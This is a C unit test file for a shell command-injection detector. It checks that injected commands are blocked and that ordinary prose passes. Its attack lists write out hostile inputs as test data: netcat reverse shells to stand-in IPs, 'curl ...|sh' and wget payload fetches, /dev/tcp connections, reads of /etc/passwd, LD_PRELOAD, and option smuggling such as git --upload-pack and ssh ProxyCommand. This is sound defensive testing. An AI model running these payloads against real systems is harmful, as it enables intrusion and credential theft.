			for (int n = 0; n <= 40; n += 8) {
				size_t o = (size_t)snprintf(cmd, sizeof cmd, "echo");
				int late = n > 0;
				for (int q = 0; q < n; q++)
					o += (size_t)snprintf(cmd + o, sizeof cmd - o, " '%s'",
					                      inputs[i]);
				snprintf(cmd + o, sizeof cmd - o, " %s%s end", before[k],
				         inputs[i]);
				if (shell3(inputs[i], cmd, "", "") != MOAT_BLOCK)
					fail_msg("%s after %s (%s place): allowed", inputs[i],
					         before[k], late ? "a later" : "the first");
			}
}

/* A second input that starts where the first one was first found takes
 * the first window as it was lexed (kept before the windows moved on to
 * judge the first input's other places) instead of lexing the line again:
 * the verdict and the rule are those of the second input judged alone,
 * whether it fires in the first window, in a later one or not at all. */
static void an_input_at_the_first_place_takes_the_first_window(void **state)
{
	static char cmd[8192], second[4096];
	static const char *const ends[] = {"", " ; id", " x", " $(id)", " | nc e 1", " 'q'"};
	static const int fires[] = {0, 1, 0, 1, 1, 0};

	(void)state;
	for (size_t k = 0; k < sizeof ends / sizeof ends[0]; k++) {
		/* (up to 54 places of "a;b": past 64 it fails closed, bound64) */
		for (int n = 2; n <= 60; n *= 3) {
			struct moat_request *both = req_with("a;b"), *alone;
			const struct moat_event *e1, *e2;
			size_t o = 0;
			int v, va;
			for (int i = 0; i < n; i++)
				o += (size_t)snprintf(second + o, sizeof second - o, "%sa;b",
				                      i ? " " : "");
			snprintf(second + o, sizeof second - o, "%s", ends[k]);
			o = (size_t)snprintf(cmd, sizeof cmd, "echo %s", second);
			for (int i = 0; i < 300; i++)
				o += (size_t)snprintf(cmd + o, sizeof cmd - o, " w");
			alone = req_with(second);
			assert_int_equal(moat_request_add_input(both, MOAT_INPUT_QUERY, "q", second,
			                                        strlen(second)),
			                 0);
			v = moat_check_shell(both, cmd, (size_t)-1);
			va = moat_check_shell(alone, cmd, (size_t)-1);
			if (v != va || v != (fires[k] ? MOAT_BLOCK : MOAT_ALLOW))
				fail_msg("\"%s\" after %d places: %d, alone %d", ends[k], n, v, va);
			e1 = moat_request_event(both);
			e2 = moat_request_event(alone);
			if (v == MOAT_BLOCK) {
				assert_non_null(e1);
				assert_non_null(e2);
				assert_string_equal(e1->rule, e2->rule);
				assert_string_equal(e1->payload, second);
			}
			moat_request_end(both);
			moat_request_end(alone);
		}
	}
}

/* ---- what must pass ---- */

/* A line that cannot parse (a quote left open after the input) runs
 * nothing: of what an input brings, only a command substitution fires
 * (it runs while the line is expanded), with a lower confidence; every
 * family that fires on the same line closed stays quiet. */
static void a_line_that_cannot_parse_fires_only_on_substitutions(void **state)
{
	static const char *const quiet[] = {
	    "x; id",           "x | sh", "x && id",           "x\nid",         "x > /tmp/owned.txt",
	    "x < /etc/passwd", "$IFS",   "{cat,/etc/passwd}", "/\?\?\?/\?\?t", "x ; $SHELL",
	};
	static const char *const runs[] = {"$(id)", "`id`", "${x:-$(id)}", "$((a[$(id)]))",
	                                   "x; $(id)"};
	char in[256];

	(void)state;
	for (size_t k = 0; k < sizeof quiet / sizeof quiet[0]; k++) {
		snprintf(in, sizeof in, "%s", quiet[k]);
		/* it fires where the line parses (the input is the command) ... */
		assert_int_equal(shell3(in, "", in, " -W 2"), MOAT_BLOCK);
		/* ... and not where a quote is left open after it */
		assert_int_equal(shell3(in, "", in, " -W 'x"), MOAT_ALLOW);
	}
	for (size_t k = 0; k < sizeof runs / sizeof runs[0]; k++) {
		struct moat_request *r = req_with(runs[k]);
		char cmd[512];
		const struct moat_event *ev;
		snprintf(cmd, sizeof cmd, "ping -c 1 %s -W 'x", runs[k]);
		assert_int_equal(moat_check_shell(r, cmd, (size_t)-1), MOAT_BLOCK);
		ev = moat_request_event(r);
		assert_non_null(ev);
		assert_string_equal(ev->rule, "cmd.substitution");
		assert_true(ev->confidence > 0.94 && ev->confidence < 0.96);
		moat_request_end(r);
	}
}

/* The rule of the event a check of cmd fires with input in the request
 * ("" when it allows). */
static const char *nest_rule(const char *input, const char *cmd, char *rule, size_t cap)
{
	struct moat_request *r = req_with(input);

	rule[0] = '\0';
	if (moat_check_shell(r, cmd, (size_t)-1) == MOAT_BLOCK)
		snprintf(rule, cap, "%s", moat_request_event(r)->rule);
	moat_request_end(r);
	return rule;
}

/* Nesting the tokenizer follows level by level (MA_SH_MAX_NEST) is judged
 * as before; deeper, an input that holds the level past it fires (bash
 * runs what is nested, however deep), and a line nested that deep by
 * the application alone does not make an input elsewhere fire. The
 * stack it takes is test_agent_stack's. */
static void substitutions_nested_past_the_tokenizer_fire(void **state)
{
	static const char *const open[] = {"$(", "\"$(", "${x:-", "$((", "\"$", "<("};
	static const char *const close[] = {")", ")\"", "}", "))", "\"", ")"};
	char in[4096], cmd[8192], rule[64];

	(void)state;
	for (size_t k = 0; k < sizeof open / sizeof open[0]; k++) {
		for (int levels = 4; levels <= 400;
		     levels = levels < 100 ? levels * 3 : levels * 2) {
			size_t o = 0;
			for (int i = 0; i < levels; i++)
				o += (size_t)snprintf(in + o, sizeof in - o, "%s", open[k]);
			o += (size_t)snprintf(in + o, sizeof in - o, "id");
			for (int i = 0; i < levels; i++)
				o += (size_t)snprintf(in + o, sizeof in - o, "%s", close[k]);
			snprintf(cmd, sizeof cmd, "nslookup %s 8.8.8.8", in);
			nest_rule(in, cmd, rule, sizeof rule);
			if (k == 5) /* <( inside <(...) is text there: no level */
				assert_string_equal(rule, "cmd.substitution");
			else if (k == 4) /* "$"$"...: $" inside "..." is a dollar sign
			                    and the closing quote, no level */
				assert_string_not_equal(rule, "cmd.nesting");
			else if (levels >= MA_SH_MAX_NEST)
				assert_string_equal(rule, "cmd.nesting");
			else
				assert_string_not_equal(rule, "cmd.nesting");
			if (levels < MA_SH_MAX_NEST && (k == 0 || k == 1 || k == 5))
				/* a substitution that runs, as before ($(( and ${ name
				 * variables here, quotes only quote) */
				assert_string_equal(rule, "cmd.substitution");
		}
	}
	/* the application's own nesting, an ordinary input after it */
	{
		size_t o = (size_t)snprintf(cmd, sizeof cmd, "echo ");
		for (int i = 0; i < 3 * MA_SH_MAX_NEST; i++)
			o += (size_t)snprintf(cmd + o, sizeof cmd - o, "$(");
		snprintf(cmd + o, sizeof cmd - o, " 'holiday.jpg'");
		assert_string_equal(nest_rule("holiday.jpg", cmd, rule, sizeof rule), "");
	}
}

static void data_inside_one_word_is_allowed(void **state)
{
	(void)state;
	assert_int_equal(sq("my holiday photo.jpg"), MOAT_ALLOW);
	assert_int_equal(dq("my holiday photo.jpg"), MOAT_ALLOW);
	assert_int_equal(sq("rm -rf / ; echo $(id) | cat > x"), MOAT_ALLOW);
	assert_int_equal(dq("a; b && c | d > e"), MOAT_ALLOW);
	assert_int_equal(unq("example.com"), MOAT_ALLOW);
	/* a sentence with & and ; where the application quoted it */
	assert_int_equal(sq("Tom & Jerry; the movie (1992)"), MOAT_ALLOW);
	assert_int_equal(dq("Tom & Jerry; the movie (1992)"), MOAT_ALLOW);
	/* unquoted it starts a command named Jerry: no such program, nothing runs */
	assert_int_equal(unq("Tom & Jerry"), MOAT_ALLOW);
	assert_int_equal(unq("Tom & id"), MOAT_BLOCK);
	assert_int_equal(unq("node-7.internal"), MOAT_ALLOW);
}

static void text_full_of_shell_words_is_allowed(void **state)
{
	(void)state;
	/* words made by whitespace: nothing runs that the application did not name */
	assert_int_equal(unq("cat the file and grep for rm -rf"), MOAT_ALLOW);
	assert_int_equal(unq("SET 8 -MINI AS"), MOAT_ALLOW);
	/* text that only breaks the line cannot run anything */
	assert_int_equal(sq("O'Brien"), MOAT_ALLOW);
	assert_int_equal(unq("70\" ROUND TABLE; CLOTH"), MOAT_ALLOW);
	assert_int_equal(unq("1 (917) 666-0987"), MOAT_ALLOW);
	/* what only looks like syntax */
	assert_int_equal(unq("$5 off"), MOAT_ALLOW);
	assert_int_equal(unq("ID=7&REF=HOME"), MOAT_ALLOW);       /* assignments only */
	assert_int_equal(unq("BASE; SET SWAROVSKI"), MOAT_ALLOW); /* no program is named so */
	assert_int_equal(unq("12.5 x 12.5&quot;"), MOAT_ALLOW);   /* a character reference */
	assert_int_equal(tail("WHERE?"), MOAT_ALLOW);
	/* a fraction or a date is no program, though it has a slash */
	assert_int_equal(ns("1&1/8 PLUGS"), MOAT_ALLOW);
	assert_int_equal(ns("SIZE 3/4; 10/12/2011 SALE"), MOAT_ALLOW);
	assert_int_equal(ns("x;./1"), MOAT_BLOCK);  /* an explicit path */
	assert_int_equal(ns("x;/7/a"), MOAT_BLOCK); /* from the root */
	assert_int_equal(unq("x > y"), MOAT_ALLOW); /* writes "y": no path from the input */
	/* Unicode look-alikes of ; | & $ are letters to sh */
	assert_int_equal(unq("x\xef\xbc\x9b id \xef\xbd\x9c sh \xef\xbc\x86 \xef\xbc\x84"
	                     "IFS"),
	                 MOAT_ALLOW);
	assert_int_equal(unq("BLAH <A HREF=\"/X\">FOO</A>"), MOAT_ALLOW); /* reads, runs nothing */
	assert_int_equal(unq("{% $NUM_VIEWS %} {a,b}"), MOAT_ALLOW);      /* words, not programs */
}

/* ---- free text: a new command named by an ordinary word runs nothing ---- */

/* The application's script for argv {"sh", "-c", ...}, as the benchmark has it. */
static int shc(const char *input)
{
	char script[4096];
	const char *argv[] = {"sh", "-c", script, NULL};
	struct moat_request *r = req_with(input);
	int v;

	snprintf(script, sizeof script, "nslookup -type=mx %s 8.8.8.8", input);
	v = moat_check_argv(r, argv, -1);
	moat_request_end(r);
	return v;
}

/* Every unquoted place and the sh -c script: allowed in all of them. */
static void prose_passes(const char *text)
{
	assert_int_equal(unq(text), MOAT_ALLOW);
	assert_int_equal(ns(text), MOAT_ALLOW);
	assert_int_equal(tail(text), MOAT_ALLOW);
	assert_int_equal(shc(text), MOAT_ALLOW);
}

static void free_text_with_line_breaks_and_punctuation_is_allowed(void **state)
{
	(void)state;
	prose_passes("Thanks for the quick reply.\n\nSee you on Monday.");
	prose_passes("Hi team,\nplease find the notes below.\nCheers, Ana");
	prose_passes("Great product; would buy again!");
	prose_passes("The cake was great; but the coffee was cold.\nNext time, more sugar?");
	prose_passes("Meeting moved to Friday & lunch is on us.");
	prose_passes("Works fine | rated 5 stars | shipped fast");
	prose_passes("Loved it!  Would you recommend it?");
	prose_passes("Is it ready yet?\nLet me know.");
	prose_passes("Comment vas-tu ?\nBien, merci !");
	prose_passes("Step one; then step two; done.");
	prose_passes("Keep calm -- and carry on.\n\t\t-- Anonymous");
	prose_passes("Rock & roll will never die\nsaid nobody ever");
	prose_passes("Tom & Jerry");
	prose_passes("Q: Why?\nA: Because.");
	prose_passes("line one\n\nline two\n");
	prose_passes("you are here;");
	prose_passes("I came; I saw; time will tell.");
	prose_passes("1; exec will create the case 7");
	prose_passes("for sale: bike & helmet; if interested, call");
	/* text wrapped at a fixed width: a line may start with any word */
	prose_passes("We waited for the storm to pass; it never did, and the\n"
	             "true cost of the trip was only clear weeks later, when the\n"
	             "bills came in.");
	prose_passes("Remember: a ticket is only valid if stamped\nbefore boarding.");
	/* prices: a positional parameter, empty in system()'s shell, then digits */
	prose_passes("Price list:\n$5.99 coffee\n$3 tea\n$10 for both");
	/* a quoted paragraph as a command's name, with a slash inside: a
	 * relative path whose name holds blanks or line breaks is text */
	prose_passes("x\n\"Two AP/HE clips, and a\nnight-sight, please?\"");
	assert_int_equal(ns("x\n\"bin\"/sh"), MOAT_BLOCK);
	assert_int_equal(ns("x\n\"/tmp/a b\""), MOAT_BLOCK);
	assert_int_equal(ns("x\n./\"a b\""), MOAT_BLOCK);
	/* *emphasis* of plain text: a word of letters between two stars */
	prose_passes("Smooth, see?  No bits, *and* balanced.");
	assert_int_equal(sq("it's *and* it's"), MOAT_ALLOW);
	assert_int_equal(tail("*a*"), MOAT_BLOCK);
	assert_int_equal(tail("*.t*"), MOAT_BLOCK);
	assert_int_equal(tail("x/*id"), MOAT_BLOCK);
	assert_int_equal(ns("x\n$1 id"), MOAT_BLOCK); /* $1 empty: id names the command */
	assert_int_equal(ns("x; true"), MOAT_ALLOW);  /* runs, but does nothing */
	assert_int_equal(ns("x; true > /tmp/x.txt"), MOAT_BLOCK);
}

/* Programs that only look a name up or print (which, man, find, as, go
 * outside its build and run commands, say, look, whatis, apropos) run
 * nothing else and change nothing when their operands are words of text:
 * a wrapped line that starts with one of them is text. */
static void a_wrapped_line_that_starts_with_a_lookup_program_is_text(void **state)
{
	static const char *const attacks[] = {
	    "x\nwhich nc",
	    "x\nwhich $(id) a b",
	    "x\nfind / -name passwd",
	    "x\nfind the files -delete",
	    "x\nfind a b c -exec id ;",
	    "x\nman -P id ls",
	    "x\nman ../../etc/shadow a b",
	    "x\nas -o /tmp/x x.s",
	    "x\ngo run main.go now",
	    "x\ngo get example.com/x a",
	    "x\ngo generate the code here",
	    "x\ngo \"run\" the code here",
	    "x\ngo r'u'n the code here",
	    "x\nwhich a b ~ c",
	    "x\nfind a b *",
	    NULL,
	};

	(void)state;
	prose_passes("Often a hen who has merely laid an egg cackles\nas if she laid an asteroid.");
	prose_passes("a way to tell weather\nwhich will melt a brass door-knob from the rest");
	prose_passes("but the wise\nman saith, \"Put all your eggs in one basket.\"");
	prose_passes("so busy that we never\nfind the time to write, she said");
	prose_passes("and soon I shall\ngo back home to rest");
	prose_passes("though I\nsay they have a right to.");
	prose_passes("I wonder if I'm right.  Then it passes off and I'm\nas happy as ever.");
	for (int i = 0; attacks[i]; i++) {
		int u = unq(attacks[i]), n = ns(attacks[i]), c = shc(attacks[i]);
		if (u != MOAT_BLOCK || n != MOAT_BLOCK || c != MOAT_BLOCK)
			fail_msg("not fired: '%s' (unquoted %d, nslookup %d, sh -c %d)", attacks[i],
			         u, n, c);
	}
	/* spelt with quotes, or other programs: judged as before */
	assert_int_equal(ns("x\nw'hich' will melt a brass"), MOAT_BLOCK);
	assert_int_equal(ns("x\nrm will melt a brass"), MOAT_BLOCK);
	assert_int_equal(ns("x\nwho am i"), MOAT_BLOCK);
}

/* The same separators, followed by something that runs. */
static void a_new_command_that_can_run_something_fires(void **state)
{
	static const char *const attacks[] = {
	    "x;id",
	    "x\nwhoami",
	    "x|nc -e /bin/sh 203.0.113.7 1",
	    "x;w'h'o'am'i",
	    "x;\"i\"d",
	    "x;c\\at /etc/passwd",
	    "x;$0",
	    "x;${SHELL}",
	    "x;/bin/sh",
	    "x;./run",
	    "x && curl 203.0.113.7|sh",
	    "x;python3 -c 'import os'",
	    "x;exec 3<>/dev/tcp/203.0.113.7/80",
	    "x;exec id",
	    "x;time id",
	    "x;env -i sh",
	    "x;sudo -u root id",
	    "x;nice -n 5 id",
	    "x;timeout 5 id",
	    "x;if id;then :;fi",
	    "x;while sleep 5;do :;done",
	    "x;for i in 1;do id;done",
	    "x;{ id; }",
	    "x;! id",
	    "x;(id)",
	    "x;c?t /etc/passwd",
	    "x;/\?\?\?/c?t /etc/passwd",
	    "x;{cat,/etc/passwd}",
	    "x;PATH=/tmp/x",
	    "x;LD_PRELOAD=/tmp/x.so",
	    "x;IFS=, read a",
	    "x;eval x",
	    "x;. /tmp/x",
	    "x;source /tmp/x",
	    "x;kill -9 1",
	    "x\n\n  uname -a",
	    "Hello there.\nid",
	    "id;",
	    NULL,
	};

	(void)state;
	for (int i = 0; attacks[i]; i++) {
		int u = unq(attacks[i]), n = ns(attacks[i]), c = shc(attacks[i]);
		if (u != MOAT_BLOCK || n != MOAT_BLOCK || c != MOAT_BLOCK)
			fail_msg("not fired: '%s' (unquoted %d, nslookup %d, sh -c %d)", attacks[i],
			         u, n, c);
	}
	/* an input that begins with ; | & && ||: nothing of its own but the
	 * end of the application's command and another, whatever its name */
	assert_int_equal(ns("; mytool --dump"), MOAT_BLOCK);
	assert_int_equal(ns("| Foo"), MOAT_BLOCK);
	assert_int_equal(ns(" && Foo bar"), MOAT_BLOCK);
	assert_int_equal(ns("&quot;Hi&quot; said Ann"), MOAT_ALLOW); /* character references */
	assert_int_equal(ns("\nFoo bar"), MOAT_ALLOW); /* text may begin with a line break */
	/* breaking out of the application's quotes first */
	assert_int_equal(sq("x'; whoami; echo '"), MOAT_BLOCK);
	assert_int_equal(dq("x\"\nwget http://203.0.113.7/x -O /tmp/x\n\""), MOAT_BLOCK);
	/* substitutions still fire whatever they hold */
	assert_int_equal(unq("Tell me `more`"), MOAT_BLOCK);
	assert_int_equal(unq("x $(Ask somebody)"), MOAT_BLOCK);
	/* redirections that write files still fire */
	assert_int_equal(unq("Note to self\n> /tmp/x.txt"), MOAT_BLOCK);
}

static void the_name_tables_are_sorted_and_answer(void **state)
{
	(void)state;
	assert_true(ma_sh_names_sorted());
	/* the hash table scripts/gen_shell_names.py writes from the lists
	 * (ma_shell_names_tab.h) holds each listed name with its kind and
	 * nothing else: a name added to a list without running it fails */
	assert_true(ma_sh_names_known());
	assert_true(ma_sh_names_exact());
	assert_int_equal(ma_sh_name_kind("id", 2), MA_SH_NAME_RUNS);
	assert_int_equal(ma_sh_name_kind("whoami", 6), MA_SH_NAME_RUNS);
	assert_int_equal(ma_sh_name_kind("[", 1), MA_SH_NAME_RUNS);
	assert_int_equal(ma_sh_name_kind("zstdmt", 6), MA_SH_NAME_RUNS);
	assert_int_equal(ma_sh_name_kind("7z", 2), MA_SH_NAME_RUNS);
	assert_int_equal(ma_sh_name_kind(".", 1), MA_SH_NAME_RUNS);
	assert_int_equal(ma_sh_name_kind("exec", 4), MA_SH_NAME_PREFIX);
	assert_int_equal(ma_sh_name_kind("then", 4), MA_SH_NAME_OPENS);
	assert_int_equal(ma_sh_name_kind("for", 3), MA_SH_NAME_RESERVED);
	assert_int_equal(ma_sh_name_kind("Ask", 3), MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("ID", 2), MA_SH_NAME_OTHER);
	/* the index by first byte and length (ma_sh_name_kind): only a whole
	 * name of the table answers, a prefix, an extension or the name with a
	 * NUL byte in it does not; first bytes no name has and lengths past
	 * 63 bytes answer OTHER */
	/* first, middle and last byte and length of whoami: the hash's
	 * slot, but not the name */
	assert_int_equal(ma_sh_name_kind("wxyazi", 6), MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("whoam", 5), MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("whoamii", 7), MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("id\0", 3), MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("i\0", 2), MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("\xff", 1), MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("\0", 1), MA_SH_NAME_OTHER);
	assert_int_equal(
	    ma_sh_name_kind("whoamiwhoamiwhoamiwhoamiwhoamiwhoamiwhoamiwhoamiwhoamiwhoamiwhoami",
	                    66),
	    MA_SH_NAME_OTHER);
	assert_int_equal(ma_sh_name_kind("idx", 2), MA_SH_NAME_RUNS); /* n bytes of s */
	assert_int_equal(ma_sh_name_kind("sudo", 4), MA_SH_NAME_PREFIX);
	assert_int_equal(ma_sh_name_kind("done", 4), MA_SH_NAME_RESERVED);
	assert_int_equal(ma_sh_name_kind("!", 1), MA_SH_NAME_OPENS);
	assert_int_equal(ma_sh_name_kind("idx", 2), MA_SH_NAME_RUNS); /* n bytes: "id" */
	assert_int_equal(ma_sh_name_kind("", 0), MA_SH_NAME_OTHER);
	assert_true(ma_sh_name_glob("c?t", 3));
	assert_true(ma_sh_name_glob("wh[o]am*", 8));
	assert_true(ma_sh_name_glob("*", 1));
	assert_false(ma_sh_name_glob("Why?", 4));
	assert_false(ma_sh_name_glob("it?x", 4));
	assert_true(ma_sh_name_env("PATH", 4));
	assert_true(ma_sh_name_env("LD_PRELOAD", 10));
	assert_false(ma_sh_name_env("PAGE", 4));
	assert_false(ma_sh_name_env("ECID", 4));
	assert_true(ma_sh_name_lookup("which", 5));
	assert_true(ma_sh_name_lookup("as", 2));
	assert_false(ma_sh_name_lookup("rm", 2));
	assert_false(ma_sh_name_lookup("who", 3)); /* "who am i": a probe */
	assert_true(ma_sh_go_runs("run", 3));
	assert_true(ma_sh_go_runs("generate", 8));
	assert_false(ma_sh_go_runs("back", 4));
}

/* ---- argv ---- */

static int argv_check(const char *input, const char *const *argv)
{
	struct moat_request *r = req_with(input);
	int v = moat_check_argv(r, argv, -1);

	if (v == MOAT_BLOCK) {
		const struct moat_event *ev = moat_request_event(r);
		assert_non_null(ev);
		assert_non_null(strstr(ev->details_json, "\"form\":\"argv\"")
		                    ? ev->details_json
		                    : strstr(ev->details_json, "sh -c"));
	}
	moat_request_end(r);
	return v;
}

static void argv_options_programs_and_shells(void **state)
{
	(void)state;
	{ /* no shell: separators are data */
		const char *a[] = {"ping", "-c", "1", "x; id", NULL};
		assert_int_equal(argv_check("x; id", a), MOAT_ALLOW);
	}
	{
		const char *a[] = {"git", "clone", "--upload-pack=touch /tmp/p", "/srv/r", NULL};
		assert_int_equal(argv_check("--upload-pack=touch /tmp/p", a), MOAT_BLOCK);
	}
	{
		const char *a[] = {"ssh", "-oProxyCommand=id", "host", NULL};
		assert_int_equal(argv_check("-oProxyCommand=id", a), MOAT_BLOCK);
	}
	{ /* after "--" it is an operand */
		const char *a[] = {"git", "clone", "--", "--upload-pack=x", NULL};
		assert_int_equal(argv_check("--upload-pack=x", a), MOAT_ALLOW);
	}
	{ /* a negative number and an ordinary option are allowed */
		const char *a[] = {"seq", "-5", "5", NULL};
		const char *b[] = {"grep", "-v", "x", NULL};
		assert_int_equal(argv_check("-5", a), MOAT_ALLOW);
		assert_int_equal(argv_check("-v", b), MOAT_ALLOW);
	}
	{ /* the input names the program */
		const char *a[] = {"/tmp/x.sh", "a", NULL};
		assert_int_equal(argv_check("/tmp/x.sh", a), MOAT_BLOCK);
	}
	{ /* the user writes the whole command: system(input), sh -c "$input" */
		const char *a[] = {"sh", "-c", "nc -lvvp 4445 -e /bin/sh", NULL};
		assert_int_equal(argv_check("nc -lvvp 4445 -e /bin/sh", a), MOAT_BLOCK);
		assert_int_equal(shell3("cat /etc/passwd", "", "cat /etc/passwd", ""), MOAT_BLOCK);
		/* a name that is also an argument elsewhere in the line is no command */
		assert_int_equal(
		    shell3("docker-compose", "which ", "docker-compose", " && docker-compose up"),
		    MOAT_ALLOW);
	}
	{ /* a shell's -c script is a command line */
		const char *a[] = {"/bin/sh", "-c", "nslookup x;id", NULL};
		const char *b[] = {"bash", "-lc", "nslookup 'x;id'", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_ALLOW);
	}
}

/* ---- the frame ---- */

static void a_check_that_does_not_fire_allocates_nothing(void **state)
{
	struct moat_request *r = req_with("my file (1).txt");
	const char *cmd = "gzip -k -- 'my file (1).txt'";
	const char *argv[] = {"gzip", "-k", "--", "my file (1).txt", NULL};

	(void)state;
	ma_alloc_fail_at(1);
	assert_int_equal(moat_check_shell(r, cmd, (size_t)-1), MOAT_ALLOW);
	assert_int_equal(moat_check_argv(r, argv, -1), MOAT_ALLOW);
	assert_false(ma_alloc_failed());
	ma_alloc_fail_at(0);
	moat_request_end(r);
}

static void monitor_mode_logs_and_allows(void **state)
{
	const struct moat_policy *p = moat_policy_parse(
	    "{\"interceptors\":{\"command_injection\":{\"mode\":\"monitor\"}}}", 1, NULL, 0);
	struct moat_request_info ri = {.endpoint = "/x", .policy = p};
	struct moat_request *r;

	(void)state;
	assert_int_equal(moat_request_begin(NULL, &ri, &r), MOAT_ALLOW);
	moat_request_add_input(r, MOAT_INPUT_FORM, "host", "a;id", 4);
	assert_int_equal(moat_check_shell(r, "ping a;id", (size_t)-1), MOAT_ALLOW);
	assert_non_null(moat_request_event(r));
	assert_string_equal(moat_request_event(r)->action, "logged");
	assert_string_equal(moat_request_event(r)->rule, "cmd.separator");
	moat_request_end(r);
	/* no request: allowed */
	assert_int_equal(moat_check_shell(NULL, "ping a;id", (size_t)-1), MOAT_ALLOW);
	moat_policy_release(p);
}

/* A case statement runs the commands of its items: "case x in a) id;;
 * esac" parses (a ")" that ends a pattern, items ended by ;; ;& ;;&),
 * so the command after the pattern is judged as any other; a ")" or ";;"
 * outside a case still breaks the line. */
static void a_case_items_commands_are_judged(void **state)
{
	char b[512];

	(void)state;
	assert_string_equal(kinds("case a in a) id;; esac", b, sizeof b),
	                    "1:case|1:a|1:in|1:a|7:)|1:id|2:;;|1:esac");
	/* ;;& and ;& are one element each, in the lane and, with a
	 * here-document pending, in the run loop */
	assert_string_equal(kinds("case a in a) x >f;;& b) y >g;& c) z;; esac", b, sizeof b),
	                    "1:case|1:a|1:in|1:a|7:)|1:x|8:>|1:f|2:;;&|1:b|7:)|1:y|8:>|1:g|2:;&|"
	                    "1:c|7:)|1:z|2:;;|1:esac");
	assert_string_equal(kinds("case a in a) cat <<E;;& b) y;& c) z;; esac\nE\n", b, sizeof b),
	                    "1:case|1:a|1:in|1:a|7:)|1:cat|8:<<|1:E|2:;;&|1:b|7:)|1:y|2:;&|"
	                    "1:c|7:)|1:z|2:;;|1:esac|2:\n");
	assert_int_equal(unq("x;case a in a) id;;esac"), MOAT_BLOCK);
	assert_int_equal(unq("x;case a in a)id;esac"), MOAT_BLOCK);
	assert_int_equal(unq("x;case a in (a) id;esac"), MOAT_BLOCK);
	assert_int_equal(unq("x;case a in *) cat /etc/passwd;;esac"), MOAT_BLOCK);
	assert_int_equal(unq("x;case a in b) ;; a|c) id;& esac"), MOAT_BLOCK);
	assert_int_equal(tail("x\ncase $1 in\n*) nc -e /bin/sh 10.0.0.1 4444;;\nesac"), MOAT_BLOCK);
	/* text: a numbered list or a smiley outside a case breaks the line */
	assert_int_equal(unq("see a) above;; then b) below"), MOAT_ALLOW);
	assert_int_equal(unq("great :) thanks"), MOAT_ALLOW);
	assert_int_equal(unq("in case a) fails"), MOAT_ALLOW);
	/* "case" after a redirection's target or an assignment is a command's
	 * name, not the reserved word (bash and dash: ")" unexpected), in a
	 * window that keeps it and in one that starts after it alike */
	{
		static const char *const lines[] = {"> g case x in a) id;; esac",
		                                    "x; > g case x in a) id;; esac",
		                                    "x=1 case x in a) id;; esac"};
		static struct ma_sh_lex lx;
		for (size_t k = 0; k < sizeof lines / sizeof lines[0]; k++) {
			size_t n = strlen(lines[k]);
			ma_sh_lex_from(lines[k], n, 0, &lx);
			assert_false(ma_sh_valid(&lx));
			ma_sh_lex_from(lines[k], n, n, &lx);
			assert_false(ma_sh_valid(&lx));
		}
		ma_sh_lex("x; case x in a) id;; esac", 25, &lx);
		assert_true(ma_sh_valid(&lx));
	}
}

/* argv: a program's own options that run a command, load code, or read
 * or write a file (curl -o, wget -O/-e, git clone -u/-c, tar -I, rsync
 * -e, php -r, python -c ...), attached to their value or not, after
 * sudo/env/timeout too; a shell's -c script behind those wrappers is a
 * command line. The same letters for other programs, ordinary options
 * and operands after "--" pass. */
static void argv_program_options_and_wrapped_shells(void **state)
{
	(void)state;
	{
		const char *a[] = {"curl", "-s", "-o/var/www/x.php", NULL};
		assert_int_equal(argv_check("-o/var/www/x.php", a), MOAT_BLOCK);
	}
	{
		const char *a[] = {"curl", "-s", "-K/tmp/cfg", NULL};
		assert_int_equal(argv_check("-K/tmp/cfg", a), MOAT_BLOCK);
	}
	{
		const char *a[] = {"/usr/bin/wget", "-O/var/www/x.php", NULL};
		assert_int_equal(argv_check("-O/var/www/x.php", a), MOAT_BLOCK);
	}
	{
		const char *a[] = {"git", "clone", "-utouch /tmp/p", "/srv/r", NULL};
		assert_int_equal(argv_check("-utouch /tmp/p", a), MOAT_BLOCK);
	}
	{
		/* (in tar -xf -Iid it is the archive's name: f takes it) */
		const char *a[] = {"tar", "-xf", "/tmp/a.tar", "-Iid", NULL};
		assert_int_equal(argv_check("-Iid", a), MOAT_BLOCK);
	}
	{
		const char *a[] = {"rsync", "-e", "sh -c id", "/tmp/x", NULL};
		const char *b[] = {"rsync", "-eid", "/tmp/x", NULL};
		assert_int_equal(argv_check("-e", a), MOAT_BLOCK);
		assert_int_equal(argv_check("-eid", b), MOAT_BLOCK);
	}
	{
		const char *a[] = {"python3.11", "-c__import__('os').system('id')", NULL};
		assert_int_equal(argv_check("-c__import__('os').system('id')", a), MOAT_BLOCK);
	}
	{
		const char *a[] = {"sudo", "-u", "www", "curl", "-s", "-o/tmp/x", NULL};
		assert_int_equal(argv_check("-o/tmp/x", a), MOAT_BLOCK);
	}
	{ /* after the wrapper's "--" the program's options still count */
		const char *a[] = {"sudo", "--", "curl", "-o/tmp/x", NULL};
		assert_int_equal(argv_check("-o/tmp/x", a), MOAT_BLOCK);
	}
	{ /* a shell -c behind sudo, env, timeout, nice */
		const char *a[] = {"sudo", "-u", "nobody", "sh", "-c", "ls x;id", NULL};
		const char *b[] = {"env", "LANG=C", "bash", "-c", "ls x;id", NULL};
		const char *c[] = {"timeout", "5", "sh", "-c", "ls x;id", NULL};
		const char *d[] = {"nice", "-n", "5", "sh", "-c", "ls x;id", NULL};
		const char *e[] = {"su", "-c", "ls x;id", "nobody", NULL};
		assert_int_equal(argv_check("x;id", a), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", b), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", c), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", d), MOAT_BLOCK);
		assert_int_equal(argv_check("x;id", e), MOAT_BLOCK);
	}
	{ /* a wrapper's assignment that loads code, vim's +command */
		const char *a[] = {"env", "LD_PRELOAD=/tmp/x.so", "ls", NULL};
		const char *b[] = {"vim", "+!id", "/tmp/notes", NULL};
		const char *c[] = {"vim", "+10", "/tmp/notes", NULL};
		const char *d[] = {"env", "LANG=C", "ls", NULL};
		const char *e[] = {"less", "+/error", "/var/log/app", NULL};
		assert_int_equal(argv_check("LD_PRELOAD=/tmp/x.so", a), MOAT_BLOCK);
